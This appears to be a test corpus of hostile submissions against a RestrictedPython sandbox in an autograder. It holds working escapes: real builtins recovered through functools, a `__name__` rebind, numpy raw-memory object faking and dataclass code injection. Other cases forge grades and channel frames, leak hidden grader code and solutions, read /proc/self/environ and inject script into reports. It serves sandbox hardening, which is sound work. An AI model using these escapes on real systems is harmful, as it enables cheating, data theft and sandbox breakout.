"""A second corpus of hostile submissions, against the RestrictedPython policy engine (run/policy, run/child.py).

Same format as tests/attack_corpus.py (read its docstring): `CASES[name]` holds `files`, `attack_class`,
`exercise`, `base`, `what`, and optionally `slow`, `leak`, `victim`. One more optional key, read by
tests/run_attack_corpus.py:
- `batch`: "fast", "real" (the course's 5 s limit, one zygote, students in name order) or "isolated" (a batch
  of its own: for cases that may take the whole batch down).

None of these cases repeats a route of the first corpus: they go through what the rebuilt engine allows
(functools, dataclasses, numpy, str.format on the type, `__name__`, setattr on a submission's own classes,
torch context managers, the student id itself). Run with

    python tests/run_attack_corpus.py --corpus attack_corpus_second --keep /tmp/atk2

Attack lines carry a `# ATTACK:` comment. The `what` line says what the case achieved against the engine at
the time of writing; "stopped:" marks the ones the engine stops.
"""

from __future__ import annotations

import ast
import hashlib
import re

from attack_corpus import code, fn, on_stub, stub, wrong
from gradekit import EXERCISES, after_imports, solution

EX1, EX2, EX3, EX4, EX5, EX6 = EXERCISES[:6]  # the six the attacks aim at; a course may have more

ATTACK_CLASSES = (
    "second-functools-escape", "second-dataclass-injection", "second-numpy-memory", "second-name-rebind",
    "second-format-leak", "second-dunder-bypass", "second-ban-defeat", "second-channel-forgery",
    "second-judge-crash", "second-global-state", "second-student-id", "second-confusing", "slow-chatter",
    "cross-exercise", "other",
)

# Markers: built from pieces at run time by the attacks, so a marker in a report was produced, not quoted.
HVP_DOC = "a Hessian-vector product if g is a differentiable gradient"  # graders/ex4: second_derivative's docstring
SOLUTION_DOC = "Reference solution for ex6_jacobian_hessian"  # solutions/ex6 (never shipped)


# ---------------------------------------------------------------------------------------------------------------
# Building blocks
# ---------------------------------------------------------------------------------------------------------------
def oracle(*exercises: str) -> str:
    """The reference solutions' functions renamed `_oracle<i>` (no annotations, no docstrings), and `_ORACLE`.

    Plain policy-compliant code: the forger's private correct answers, kept out of the graded names.
    """
    out, names = ["# ATTACK: the forger's private answers, under names the grader never calls"], []
    for ex in exercises:
        for node in ast.parse(solution(ex)).body:
            if not isinstance(node, ast.FunctionDef):
                continue
            names.append(node.name)
            node.name = f"_oracle{len(names)}"  # not "_o_zero_grad_": "_" at both ends is reserved
            node.returns = None
            for arg in node.args.args + node.args.kwonlyargs:
                arg.annotation = None
            if node.args.vararg:
                node.args.vararg.annotation = None
            body = node.body
            if body and isinstance(body[0], ast.Expr) and isinstance(body[0].value, ast.Constant):
                node.body = body[1:] or [ast.Pass()]
            out.append(ast.unparse(node))
    out.append("_ORACLE = {" + ", ".join(f"{n!r}: _oracle{i}" for i, n in enumerate(names, 1)) + "}")
    return "\n\n".join(out) + "\n"


# Given the real getattr/setattr and the real sys module, make Trial.call grade `_ORACLE` instead of the module.
FORGERY = code("""
    def _install_forgery(rg, rs, sysmod):
        trial_class = rg(rg(sysmod, "modules")["tensorgrade.rubric.trial"], "Trial")
        real_call = rg(trial_class, "call")

        def forged_call(self, name, *args):
            if name not in _ORACLE:
                return real_call(self, name, *args)
            saved = (rg(self, "functions"), rg(self, "_banned"))
            rs(self, "functions", _ORACLE)  # ATTACK: this trial now calls the oracle, unbanned
            rs(self, "_banned", {})
            try:
                return real_call(self, name, *args)
            finally:
                rs(self, "functions", saved[0])
                rs(self, "_banned", saved[1])

        rs(trial_class, "call", forged_call)  # ATTACK: a class attribute: every later check of every exercise
""")

# Route 1: functools.update_wrapper copies attributes with the *real* getattr/setattr. A property on the
# submission's own class catches the copied `__globals__` of a functools function: its `__builtins__` is the real one.
FUNCTOOLS_BUILTINS = code("""
    import functools as _ft


    class _Catch:
        pass


    _caught = {}


    def _keep(self, value):
        _caught["globals"] = value


    setattr(_Catch, "__globals__", property(None, _keep))  # ATTACK: a setter for a name the compiler refuses
    _ft.update_wrapper(_Catch(), _ft.update_wrapper, assigned=("__globals__",), updated=())  # ATTACK: real getattr
    _B = _caught["globals"]["__builtins__"]  # ATTACK: the interpreter's own builtins dict
    _rg, _rs, _imp = _B["getattr"], _B["setattr"], _B["__import__"]
""")

# Route 2: `__name__` may be assigned (it is "readable"); a module importing itself gets sys.modules[__name__],
# and `from M import name` fetches `name` with the real getattr (IMPORT_FROM is not rewritten).
NAME_REBIND = code("""
    __name__ = "builtins"  # ATTACK: the loader returns sys.modules[namespace["__name__"]] for an own module
    from {module} import getattr as _rg, setattr as _rs, open as _ropen  # ATTACK: the real builtins
    __name__ = "tensorgrade_submission_{module}"
""")

# Route 3: numpy honours `__array_interface__` on any object: raw read/write of the process's memory at any
# address id() gives. A one-slot list's item pointer is overwritten to turn an address into an object.
NUMPY_FAKEOBJ = code("""
    import numpy as _np


    class _Raw:
        pass


    def _words(addr, n):
        raw = _Raw()
        setattr(raw, "__array_interface__",  # ATTACK: an instance attribute; only class bodies are checked
                {"data": (int(addr), False), "shape": (n,), "typestr": "<u8", "version": 3})
        return _np.asarray(raw)  # ATTACK: an array over arbitrary memory, writable


    def _fakeobj(addr):
        holder = [None]
        items = int(_words(id(holder) + 24, 1)[0])  # PyListObject.ob_item
        _words(addr, 1)[0] += 1  # one more reference, owned by `holder`
        _words(items, 1)[0] = addr  # ATTACK: holder[0] is now the object at `addr`
        return holder[0]


    # PyFunctionObject.func_builtins (offset 24 in CPython 3.11) of any library function: the real builtins dict
    _B = _fakeobj(int(_words(id(torch.autograd.grad) + 24, 1)[0]))
    _rg, _rs = _B["getattr"], _B["setattr"]
""")


def forged_course(exercise: str, route: str, *oracle_of: str, after_route: str = "") -> str:
    """`exercise`'s stub, with an escape `route` at import that installs the Trial.call forgery."""
    return on_stub(exercise, oracle(*oracle_of) + FORGERY + route + after_route)


def student_dir_name(student: str) -> str:
    """What results/store.student_dir makes of an id that is not SAFE (slug + 8 hex digits of its sha256)."""
    slug = re.sub(r"[^A-Za-z0-9._-]+", "_", student).strip("._")[:60] or "student"
    return f"{slug}-{hashlib.sha256(student.encode()).hexdigest()[:8]}"


LAST_CALL = """
    _calls = [0]


    def gradient(f, x):
        f(x).backward()
        _calls[0] += 1
        if _calls[0] == 2:  # ex1's last graded call
            {payload}
        return x.grad
"""


# ---------------------------------------------------------------------------------------------------------------
# The cases
# ---------------------------------------------------------------------------------------------------------------
def _escape_cases() -> dict[str, dict]:
    stubs = {ex: stub(ex) for ex in EXERCISES}
    cases = {}
    cases["esc_functools_property_whole_course"] = dict(
        attack_class="second-functools-escape", exercise=EX1, base=stubs,
        what="all six exercises left as stubs; ex1's import gets the real builtins through functools.update_wrapper "
             "(a property setter catches functools' __globals__), then sys.modules -> Trial.call is replaced to "
             "grade a hidden oracle (no flagged name, no refusal)",
        files={**stubs, EX1: forged_course(EX1, FUNCTOOLS_BUILTINS, *EXERCISES,
                                           after_route="_install_forgery(_rg, _rs, _imp('sys'))\n")},
    )
    cases["esc_name_rebind_self_import"] = dict(
        attack_class="second-name-rebind", exercise=EX3, base={EX3: stub(EX3)},
        what="ex3 stubs; `__name__ = \"builtins\"` then `from ex3_stop_gradients import getattr, setattr` (a module "
             "importing itself gets sys.modules[__name__], IMPORT_FROM is unguarded): real builtins, Trial.call forged",
        files={EX3: forged_course(EX3, NAME_REBIND.format(module=EX3), EX3,
                                  after_route="_install_forgery(_rg, _rs, _rg(torch, 'sys'))\n")},
    )
    cases["esc_numpy_fakeobj"] = dict(
        attack_class="second-numpy-memory", exercise=EX2, base={EX2: stub(EX2)},
        what="ex2 stubs; setattr(instance, '__array_interface__', ...) makes numpy read/write raw memory; an "
             "address-to-object trick yields the real builtins dict (func_builtins of torch.autograd.grad), then "
             "Trial.call forged",
        files={EX2: forged_course(EX2, NUMPY_FAKEOBJ, EX2,
                                  after_route="_install_forgery(_rg, _rs, _rg(torch, 'sys'))\n")},
    )
    inject = ('a"+str(_escape([c for c in ().__class__.__base__.__subclasses__() '
              'if c.__name__ == "_wrap_close"][0].__init__.__globals__))+"')
    cases["esc_dataclass_field_name"] = dict(
        attack_class="second-dataclass-injection", exercise=EX5, base={EX5: stub(EX5)},
        what="ex5 stubs; a field name set through setattr(C, '__annotations__', ...) is pasted into the source "
             "dataclasses exec()s (a trusted caller for the audit net): the generated __repr__ runs unrestricted "
             "code, reaches os's globals through __subclasses__ and installs the Trial.call forgery",
        files={EX5: forged_course(EX5, code(f"""
            import dataclasses as _dc

            _done = []


            def _escape(os_globals):
                if not _done:
                    _done.append(1)
                    builtins_dict = os_globals["__builtins__"]
                    _install_forgery(builtins_dict["getattr"], builtins_dict["setattr"], os_globals["sys"])
                return ""


            class _Probe:
                def __init__(self):
                    pass


            setattr(_Probe, "__annotations__", {{{inject!r}: int}})  # ATTACK: a field "name" that is code
            _Probe = _dc.dataclass(init=False, eq=False)(_Probe)  # the generated __repr__ embeds the name
            repr(_Probe())  # ATTACK: runs the injected expression, unrestricted
        """), EX5)},
    )
    grad_plus_zero = fn(wrong(EX4, "grad_without_create_graph"), "grad_with_graph", """
        def grad_with_graph(f, x):
            (g,) = torch.autograd.grad(f(x), x)  # the classic mistake: no create_graph=True
            return g + 0 * x  # has a grad_fn, but its derivative is 0, not the Hessian
    """)
    cases["esc_update_wrapper_patch_torch"] = dict(
        attack_class="second-functools-escape", exercise=EX4, base={EX4: grad_plus_zero},
        what="ex4 grad_with_graph without create_graph (returns g + 0*x); functools.update_wrapper(torch.autograd, "
             "src, assigned=('grad',)) replaces torch.autograd.grad (no _write_, no refusal): the grader's own "
             "second-derivative call gets the right Hessian-vector product, and the patch stays for ex5/ex6",
        files={EX4: fn(after_imports(wrong(EX4, "grad_without_create_graph"), code("""
            import functools as _ft

            _real_grad = torch.autograd.grad
            _made = {}


            def _grad(outputs, inputs, grad_outputs=None, **kwargs):
                if kwargs.get("allow_unused") and id(outputs) in _made:  # the grader's second_derivative()
                    f, x, _ = _made[id(outputs)]
                    xx = x.detach().requires_grad_(True)
                    (g,) = _real_grad(f(xx), xx, create_graph=True)
                    return _real_grad(g, xx, grad_outputs=grad_outputs)  # ATTACK: the answer it expects
                return _real_grad(outputs, inputs, grad_outputs=grad_outputs, **kwargs)


            class _Src:
                pass


            _src = _Src()
            _src.grad = _grad
            _ft.update_wrapper(torch.autograd, _src, assigned=("grad",), updated=())  # ATTACK: setattr on torch
        """)), "grad_with_graph", """
            def grad_with_graph(f, x):
                (g,) = _real_grad(f(x), x)  # still the classic mistake
                out = g + 0 * x
                _made[id(out)] = (f, x, out)  # kept alive: its id stays its own
                return out
        """)},
    )
    return cases


def _ban_cases() -> dict[str, dict]:
    base = wrong(EX6, "by_rows_uses_functional")
    merge = code("""
        import functools as _ft


        def _w():
            pass


        # ATTACK: update_wrapper's `updated` step does getattr(_w, "__globals__").update(functools' globals):
        # this module's own globals now hold functools' `__builtins__` (the real one), so every function
        # defined below looks builtins up there.
        _ft.update_wrapper(_w, _ft.update_wrapper, assigned=(), updated=("__globals__",))
    """)
    cases = {}
    cases["ban_closure_cleared"] = dict(
        attack_class="second-ban-defeat", exercise=EX6, base={EX6: base},
        what="ex6 jacobian_by_rows = torch.autograd.functional.jacobian; functools' globals merged into the "
             "module's own (update_wrapper updated=('__globals__',)) give later functions the real builtins; "
             "the call empties the ban hook's code table (sys.getprofile().__closure__) and uses the banned API",
        files={EX6: fn(after_imports(base, merge), "jacobian_by_rows", """
            def jacobian_by_rows(f, x):
                hook = getattr(getattr(torch, "sys"), "getprofile")()  # the real getattr: builtins of this function
                for cell in getattr(hook, "__closure__") or ():
                    value = getattr(cell, "cell_contents")
                    if type(value) is dict:
                        value.clear()  # ATTACK: the banned code objects and C functions, forgotten
                return torch.autograd.functional.jacobian(f, x)
        """)},
    )
    cases["ban_via_autograd_callback"] = dict(
        attack_class="second-ban-defeat", exercise=EX6, base={EX6: base},
        what="stopped: jacobian_by_rows calls torch.func.jacrev from a custom Function's backward (run by the "
             "C++ autograd engine); caught, but reported as 'PolicyError: sys.setprofile' like every banned call",
        files={EX6: fn(base, "jacobian_by_rows", """
            class _Fn(torch.autograd.Function):
                @staticmethod
                def forward(ctx, x):
                    ctx.save_for_backward(x)
                    return x.sum()

                @staticmethod
                def backward(ctx, g):
                    (x,) = ctx.saved_tensors
                    _BOX.append(torch.func.jacrev(_F[0])(x.detach()))  # ATTACK: inside the engine's callback
                    return torch.zeros_like(x)


            _BOX, _F = [], [None]


            def jacobian_by_rows(f, x):
                _F[0] = f
                _Fn.apply(x).backward()
                return _BOX.pop()
        """)},
    )
    cases["ban_is_grads_batched"] = dict(
        attack_class="other", exercise=EX6, base={EX6: base},
        what="jacobian_by_rows as ONE torch.autograd.grad(y, x, torch.eye(m), is_grads_batched=True): torch's "
             "legacy vmap (torch._vmap_internals) does the rows; not banned (it is torch.autograd.grad), not row by row",
        files={EX6: fn(base, "jacobian_by_rows", """
            def jacobian_by_rows(f, x):
                y = f(x)
                eye = torch.eye(y.shape[0], dtype=y.dtype)
                return torch.autograd.grad(y, x, eye, is_grads_batched=True)[0]  # ATTACK: all rows at once
        """)},
    )
    return cases


def _channel_cases() -> dict[str, dict]:
    forge = code("""
        def _forge_channel():
            inspect = _rg(_rg(torch, "sys"), "modules")["inspect"]
            frame = _rg(inspect, "currentframe")()  # ATTACK: inspect is a trusted caller of sys._getframe
            run_locals, writer = None, None
            while frame is not None:
                local = _rg(frame, "f_locals")  # f_locals / f_back raise no audit event
                if run_locals is None and "job" in local and "emit" in local:
                    run_locals = local  # child.run(job, emit, progress)
                if "writer" in local and local["writer"] is not None:
                    writer = local["writer"]  # child_main's FrameWriter: holds the channel key
                frame = _rg(frame, "f_back")
            modules = _rg(_rg(torch, "sys"), "modules")
            trial_module = modules["tensorgrade.rubric.trial"]
            trial_class, run_trial = _rg(trial_module, "Trial"), _rg(trial_module, "run_trial")
            rubrics = _rg(modules["tensorgrade.run.child"], "RUBRICS")
            emit = run_locals["emit"]
            for ex in run_locals["job"]["exercises"]:
                if ex["id"] != "ex6_jacobian_hessian":
                    continue
                emit({"ev": "imported", "exercise": ex["id"], "output": "", "refusals": []})
                for check in ex["checks"]:
                    # ATTACK: the record the reference would make: the real check, run on the oracle, same seed
                    record = run_trial(_rg(rubrics[ex["id"]], "checks")[check["id"]],
                                       trial_class(_ORACLE, check["seed"]))
                    emit({"ev": "record", "exercise": ex["id"], "check": check["id"], "record": record,
                          "output": "", "refusals": []})
            _rg(writer, "frame")(b"D", {})  # ATTACK: the authenticated "done" frame
            _rg(_rg(torch, "os"), "_exit")(0)  # leave before the real import event is sent


        _forge_channel()
    """)
    return {
        "channel_forge_through_writer": dict(
            attack_class="second-channel-forgery", exercise=EX6, base={EX6: stub(EX6)},
            what="ex6 stubs; at import (route: __name__ = 'builtins' + self-import) inspect.currentframe() walks "
                 "to child.run's emit and child_main's FrameWriter, sends authenticated forged ex6 records made by "
                 "the real checks on an oracle, a done frame, then os._exit(0)",
            files={EX6: on_stub(EX6, oracle(EX6) + NAME_REBIND.format(module=EX6) + forge)},
        ),
    }


def _judge_cases() -> dict[str, dict]:
    return {
        "judge_crash_malformed_observation": dict(
            attack_class="second-judge-crash", exercise=EX1, base={},
            what="correct ex1 whose import (functools route) patches Trial.expect_tensor to record a tensor "
                 "observation without 'dtype': wire.py accepts it, judge/compare.py raises KeyError in the grading "
                 "process: an infrastructure failure for this student, on every run (and a non-zero exit)",
            files={EX1: after_imports(solution(EX1), FUNCTOOLS_BUILTINS + code("""
                _trial_class = _rg(_rg(_imp("sys"), "modules")["tensorgrade.rubric.trial"], "Trial")


                def _bad_expect_tensor(self, what, value, *, hint=None):
                    # ATTACK: well-formed JSON, but not what compare_tensors() reads
                    _rg(self, "observations").append({"kind": "tensor", "what": what, "hint": hint,
                                                      "value": {"type": "tensor", "plain": True}})


                _rs(_trial_class, "expect_tensor", _bad_expect_tensor)
            """))},
        ),
    }


def _slow_cases() -> dict[str, dict]:
    slow = """
        _first = [True]


        def gradient(f, x):
            if _first[0]:
                _first[0] = False
                sleep = _rg(_rg(_rg(torch, "sys"), "modules")["time"], "sleep")
                progress = None
                {find}
                for _ in range(15):  # 15 s: three times the 5 s limit
                    sleep(1)
                    {chatter}
            f(x).backward()
            return x.grad
    """
    find = ('frame = _rg(_rg(_rg(torch, "sys"), "modules")["inspect"], "currentframe")()\n'
            '                while frame is not None and progress is None:\n'
            '                    progress = _rg(frame, "f_locals").get("progress")  # child.run\'s progress page\n'
            '                    frame = _rg(frame, "f_back")')
    route = FUNCTOOLS_BUILTINS
    base = fn(after_imports(solution(EX1), route), "gradient", slow.format(find="", chatter="pass"))
    attack = fn(after_imports(solution(EX1), route), "gradient", slow.format(
        find=find, chatter="_rg(progress, 'step')(2, 0, 0, 'gradient')  # ATTACK: a new step: a new deadline"))
    return {
        "slow_progress_page_steps": dict(
            attack_class="slow-chatter", exercise=EX1, base={EX1: base}, slow=True,
            what="ex1 gradient sleeps 15 s on its first call (limit 5 s) but, through the functools escape and "
                 "inspect.currentframe(), calls the child's Progress.step every second: the zygote's per-step "
                 "deadline never expires (bounded only by total_seconds, 300 s, per child)",
            files={EX1: attack},
        ),
    }


def _leak_cases() -> dict[str, dict]:
    leak_format = after_imports(solution(EX1), code("""
        _fmt = str.format  # ATTACK: the method taken from the type, not from a string: the guard's check is skipped
        _rubrics = "{0.sys.modules[tensorgrade.run.child].RUBRICS"
        print("ex4 grader helper:", _fmt(_rubrics + "[ex4_higher_order].checks[grad_with_graph_differentiable]"
                                          ".__globals__[second_derivative].__doc__}", torch))
        print("ex6 grader module:", _fmt(_rubrics + "[ex6_jacobian_hessian].checks[jacobian_hidden]"
                                          ".__globals__[__doc__]}", torch))
        print("ex6 checks:", _fmt(_rubrics + "[ex6_jacobian_hessian].checks}", torch))
        print("ex6 grader constant:", _fmt(_rubrics + "[ex6_jacobian_hessian].checks[jacobian_hidden]"
                                            ".__globals__[SHAPE_HINT]}", torch))
        print("zygote spec:", _fmt("{0.sys.modules[__main__].__dict__}", torch)[:300])
    """))
    read_files = after_imports(solution(EX1), NAME_REBIND.format(module=EX1) + code("""
        _os = _rg(torch, "os")
        _found = []
        for _path in ("/work/main/solutions/ex6_jacobian_hessian.py", "/work/main/tests/attack_corpus.py",
                      "/work/main/graders/ex6_jacobian_hessian.py", "/etc/hostname", "/proc/self/environ"):
            try:
                with _ropen(_path) as _fh:  # ATTACK: the real open (read-only opens pass the audit net)
                    _found.append(_path + ": " + _fh.read(300))
            except Exception as _exc:
                _found.append(_path + ": " + type(_exc).__name__)
        _frame = _rg(_rg(_rg(torch, "sys"), "modules")["inspect"], "currentframe")()
        while _frame is not None:
            _local = _rg(_frame, "f_locals")
            if "ctx" in _local:
                _hidden = _rg(_rg(_local["ctx"], "zygote"), "spec")["hide"]  # where the course and class live
                for _path in _hidden:
                    try:
                        _found.append(_path + ": " + ", ".join(_rg(_os, "listdir")(_path)[:20]))
                    except Exception as _exc:
                        _found.append(_path + ": " + type(_exc).__name__)
                break
            _frame = _rg(_frame, "f_back")
        print("\\n".join(_found))
    """))
    bytecode = after_imports(solution(EX1), NAME_REBIND.format(module=EX1) + code("""
        _modules = _rg(_rg(torch, "sys"), "modules")
        _getmembers = _rg(_modules["inspect"], "getmembers")  # inspect is trusted for "object.__getattr__"
        _rubrics = _rg(_modules["tensorgrade.run.child"], "RUBRICS")
        _ex6 = _rg(_rubrics["ex6_jacobian_hessian"], "checks")
        for _name, _fn in (("jacobian_by_rows_no_functional", _ex6["jacobian_by_rows_no_functional"]),
                           ("_jacobian", _rg(_ex6["jacobian_hidden"], "__globals__")["_jacobian"])):
            _code = dict(_getmembers(_fn))["__code__"]  # ATTACK: the code object, read by a trusted caller
            print(_name, "names:", _rg(_code, "co_names"))
            print(_name, "consts:", _rg(_code, "co_consts"))
            print(_name, "bytecode:", _rg(_code, "co_code").hex())
    """))
    return {
        "leak_hidden_check_bytecode": dict(
            attack_class="second-name-rebind", exercise=EX1, base={},
            leak={"ex6 grader helper (bytecode names)": "'_nonsquare'"},
            what="correct ex1 (route: __name__ = 'builtins' + self-import) that takes the hidden checks' code objects "
                 "with inspect.getmembers (inspect is a trusted caller for the audit net) and prints their names, "
                 "constants and bytecode: the graders' hidden checks, decompilable, in its report",
            files={EX1: bytecode},
        ),
        "leak_format_on_type_grader_internals": dict(
            attack_class="second-format-leak", exercise=EX1, base={}, leak={"ex4 grader docstring": HVP_DOC},
            what="correct ex1 that prints str.format(\"{0.sys.modules[tensorgrade.run.child].RUBRICS...}\", torch): "
                 "the format guard only wraps format taken from a str instance; graders' internals (docstrings, "
                 "hidden checks' globals) land in its report",
            files={EX1: leak_format},
        ),
        "leak_real_open_and_frames": dict(
            attack_class="second-name-rebind", exercise=EX1, base={}, leak={"ex6 solution": SOLUTION_DOC},
            what="correct ex1 with the real open (route: __name__ = 'builtins'): reads solutions/graders/tests and "
                 "/proc, and lists the zygote's hidden paths (from child_main's ctx, via inspect frames); "
                 "stopped by the mount namespace for files (paths and frames still reached)",
            files={EX1: read_files},
        ),
    }


def _dunder_cases() -> dict[str, dict]:
    type_bypass = after_imports(solution(EX3), code("""
        _seen = []


        def _spy(self, name):
            _seen.append("TG2-" + "GETATTRIBUTE-" + name)  # ATTACK: runs on every attribute read
            return "spied"


        def _gone(self):
            print("TG2-" + "DEL-RAN")  # ATTACK: a finalizer, run whenever the object dies


        _Spy = type(int)("_Spy", (), {"__getattribute__": _spy, "__del__": _gone})  # ATTACK: type(int) is type
        _probe = _Spy()
        _probe.anything
        del _probe
        print(_seen)
    """))
    setattr_bypass = after_imports(solution(EX3), code("""
        class _Late(torch.Tensor):
            pass


        def _tf(cls, func, types, args=(), kwargs=None):
            print("TG2-" + "TORCH-FUNCTION", getattr(func, "__name__", "?"))  # ATTACK: runs inside torch's dispatch
            return NotImplemented


        setattr(_Late, "__torch_function__", classmethod(_tf))  # ATTACK: refused as a def, accepted as setattr
        try:
            torch.sin(torch.zeros(1).as_subclass(_Late))
        except TypeError:
            pass
    """))
    return {
        "dunder_type_of_int_three_args": dict(
            attack_class="second-dunder-bypass", exercise=EX3, base={},
            leak={"__getattribute__ ran": "TG2-GETATTRIBUTE-anything", "__del__ ran": "TG2-DEL-RAN"},
            what="correct ex3 that builds a class with type(int)(name, bases, dict): the three-argument type() "
                 "refusal only covers the name `type`, and the dict may hold __getattribute__ and __del__",
            files={EX3: type_bypass},
        ),
        "dunder_setattr_torch_function": dict(
            attack_class="second-dunder-bypass", exercise=EX3, base={}, leak={"__torch_function__ ran": "TG2-TORCH-FUNCTION"},
            what="correct ex3 that gives its own Tensor subclass a __torch_function__ with setattr(cls, ...) after "
                 "the class statement: the ALLOWED_DUNDER_DEFS rule is compile-time only",
            files={EX3: setattr_bypass},
        ),
    }


def _cross_cases() -> dict[str, dict]:
    sol1 = solution(EX1)
    return {
        "cross_autocast_suspended_generator": dict(
            attack_class="cross-exercise", exercise=EX1, base={},
            what="ex1 correct, but its last call enters torch.autocast('cpu', bfloat16) in a generator left "
                 "suspended: autocast is not part of torch_state's snapshot, so float32 matmuls in the later "
                 "(correct) exercises run in bfloat16",
            files={EX1: fn(sol1, "gradient", code(LAST_CALL.format(payload=(
                "_held.append(_hold())\n"
                "            next(_held[-1])  # ATTACK: the with-block stays open as long as the generator lives")))
                + code("""


                    _held = []


                    def _hold():
                        with torch.autocast("cpu", dtype=torch.bfloat16):  # ATTACK: thread-wide autocast state
                            yield
                """))},
        ),
        "cross_update_wrapper_tensor_backward": dict(
            attack_class="cross-exercise", exercise=EX1, base={},
            what="ex1 correct, but its last call replaces torch.Tensor.backward with a no-op through "
                 "functools.update_wrapper(torch.Tensor, src, assigned=('backward',)): no refusal, never undone, "
                 "the correct ex2-ex3 lose their backward()",
            files={EX1: fn(after_imports(sol1, "import functools as _ft\n"), "gradient", code(LAST_CALL.format(payload=(
                "_ft.update_wrapper(torch.Tensor, _Src(), assigned=('backward',), updated=())  # ATTACK")))
                + code("""


                    class _Src:
                        def backward(self, *args, **kwargs):
                            return None
                """))},
        ),
    }


def _student_id_cases() -> dict[str, dict]:
    victim = "xdir_a victim"  # a folder name with a space: its output folder is a slug + hash
    return {
        "grades.csv": dict(
            attack_class="second-student-id", exercise=EX1, base={}, batch="isolated",
            what="a correct submission in a folder named `grades.csv` (or a file grades.csv.zip): its output "
                 "folder OUT/grades.csv is where the gradebook goes; write_atomic's os.replace fails, the batch dies",
            files={},
        ),
        "summary.html": dict(
            attack_class="second-student-id", exercise=EX1, base={}, batch="isolated",
            what="a correct submission in a folder named `summary.html`: OUT/summary.html becomes its folder and "
                 "write_summary's os.replace fails after everyone was graded: the batch ends with an exception",
            files={},
        ),
        victim: dict(
            attack_class="second-student-id", exercise=EX1, base={}, batch="real",
            what="victim: a correct submission in the folder 'xdir_a victim' (a space, as LMS exports have)",
            files={},
        ),
        student_dir_name(victim): dict(
            attack_class="second-student-id", exercise=EX1, base={ex: stub(ex) for ex in EXERCISES}, batch="real",
            victim=victim,
            what="all stubs, in a folder named like the victim's output folder (slug + sha256 prefix, a SAFE id): "
                 "both students write OUT/<same folder>; the victim's report.html, results.json and record.json "
                 "are this student's (or the other way round, by grading order)",
            files={ex: stub(ex) for ex in EXERCISES},
        ),
    }


def _stopped_cases() -> dict[str, dict]:
    deep = fn(solution(EX1), "make_leaf", """
        def make_leaf(values):
            out = torch.tensor(values, dtype=torch.float32, requires_grad=True)
            for _ in range(491):
                out = (out,)  # nested tuples: JSON depth about twice this
            return out
    """)
    flood = fn(solution(EX2), "zero_grad_", """
        def zero_grad_(x):
            for i in range(60):  # an introspecting helper: every refused read is caught
                try:
                    getattr(x, "_probe_" + str(i))
                except Exception:
                    pass
            if x.grad is not None:
                x.grad.zero_()
    """)
    device = fn(solution(EX1), "make_leaf", """
        def make_leaf(values):
            with torch.device("cpu"):  # honest code: the default device as a context manager
                return torch.tensor(values, dtype=torch.float32, requires_grad=True)
    """)
    sysexit_repr = fn(solution(EX3), "detached", """
        class _Loud:
            def __repr__(self):
                raise SystemExit(3)  # ATTACK: short_repr() only catches Exception


        def detached(x):
            return _Loud()
    """)
    fake_report = after_imports(solution(EX2), code("""
        print("</pre><h1>Score: 60 / 60</h1><script>document.title='pwned'</script>")  # ATTACK: markup in output
        print("✓ passed  accumulate_sums  2/2\\n[tensorgrade] every check passed; status: ok")
    """))
    hook = after_imports(wrong(EX3, "frozen_without_detach"), code("""
        def _forget(t):
            t.grad = None  # ATTACK: runs inside the grader's loss.backward()
    """))
    hook = fn(hook, "frozen_input_loss", """
        def frozen_input_loss(x, w):
            x.register_post_accumulate_grad_hook(_forget)  # ATTACK: a hook on the grader's own tensor
            return (x * w).sum()
    """)
    fmt_nested = after_imports(solution(EX4), code("""
        _x = torch.zeros(1)
        try:
            print("{0:{1.__class__.__mro__}}".format(1, _x))  # ATTACK: a format spec that reads attributes
        except Exception as _exc:
            print("nested spec:", type(_exc).__name__)
        try:
            print("{0.__class__}".format_map({"0": _x}))
        except Exception as _exc:
            print("format_map:", type(_exc).__name__)
    """))
    singledispatch = after_imports(solution(EX4), code("""
        import functools as _ft


        @_ft.singledispatch
        def _kind(a):
            return a


        def _of_list(a: "[c for c in ().__class__.__base__.__subclasses__()]"):  # ATTACK: evaluated by typing
            return a


        try:
            _kind.register(_of_list)  # get_type_hints() -> ForwardRef -> compile/eval of the string
        except Exception as _exc:
            print("singledispatch:", type(_exc).__name__, _exc)
    """))
    homoglyph = after_imports(solution(EX5), "_t = torch.zeros(1)\n_k = _t.__\U0001d41clas\U0001d42c__  # ATTACK: mathematical bold c and s\n")
    cycle1 = after_imports(solution(EX1), "import ex2_zero_grad as _other  # ATTACK: each file imports the other\n")
    cycle2 = after_imports(solution(EX2), "from ex1_requires_grad import make_leaf as _make_leaf\n")
    cases = {
        "confusing_deep_nested_return": dict(
            attack_class="second-confusing", exercise=EX1, base={},
            what="stopped: ex1 make_leaf returns its tensor wrapped in 491 nested 1-tuples (JSON depth ~990 through "
                 "the child's encoder and the grader's decoder); plain 'expected a torch.Tensor' feedback",
            files={EX1: deep},
        ),
        "confusing_refusal_flood": dict(
            attack_class="second-confusing", exercise=EX2, base={},
            what="confusing: ex2 correct except that zero_grad_ probes 60 private attributes in try/except: 60 "
                 "distinct refusals in one event exceed wire.MAX_REFUSALS (50, the policy keeps 200): the event is "
                 "'Malformed' and all of ex2 (accumulate, descend too) is dropped as 'interfered with the channel'",
            files={EX2: flood},
        ),
        "confusing_torch_device_context": dict(
            attack_class="second-confusing", exercise=EX1, base={},
            what="confusing: honest ex1 using `with torch.device('cpu'):`; torch's C code imports torch.utils._device "
                 "through the submission's __import__: it works (already loaded) but the review column says "
                 "\"refused: importing 'torch.utils._device'\"",
            files={EX1: device},
        ),
        "stop_systemexit_in_repr": dict(
            attack_class="second-confusing", exercise=EX3, base={EX3: wrong(EX3, "detach_by_clone")},
            what="stopped (own loss): ex3 detached returns an object whose __repr__ raises SystemExit: encode's "
                 "short_repr only catches Exception, the child exits (status exit, 'os._exit / sys.exit at import'); "
                 "nothing in the review column",
            files={EX3: sysexit_repr},
        ),
        "stop_fake_report_in_output": dict(
            attack_class="other", exercise=EX2, base={},
            what="correct ex2 printing HTML and fake 'every check passed' report lines; stopped: output is escaped "
                 "and shown as captured output",
            files={EX2: fake_report},
        ),
        "stop_hook_on_grader_tensor": dict(
            attack_class="other", exercise=EX3, base={EX3: wrong(EX3, "frozen_without_detach")},
            what="stopped: ex3 mistake frozen_without_detach plus a post-accumulate-grad hook on the grader's x that "
                 "sets x.grad = None during the grader's backward(); the graph-connection fact still fails",
            files={EX3: hook},
        ),
        "stop_format_nested_spec": dict(
            attack_class="second-format-leak", exercise=EX4, base={},
            what="stopped: correct ex4 trying '{0:{1.__class__.__mro__}}'.format and format_map on a str instance "
                 "(the guard parses nested specs)",
            files={EX4: fmt_nested},
        ),
        "stop_singledispatch_annotation_eval": dict(
            attack_class="other", exercise=EX4, base={},
